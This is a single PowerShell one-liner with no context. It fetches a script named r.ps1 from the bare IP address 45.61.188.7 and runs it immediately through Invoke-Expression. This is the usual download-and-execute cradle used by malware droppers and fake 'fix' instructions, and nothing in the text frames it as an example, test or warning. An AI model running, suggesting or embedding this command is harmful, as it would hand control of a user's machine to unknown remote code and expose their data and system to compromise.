iex (iwr -UseBasicParsing http://45.61.188.7/r.ps1).Content
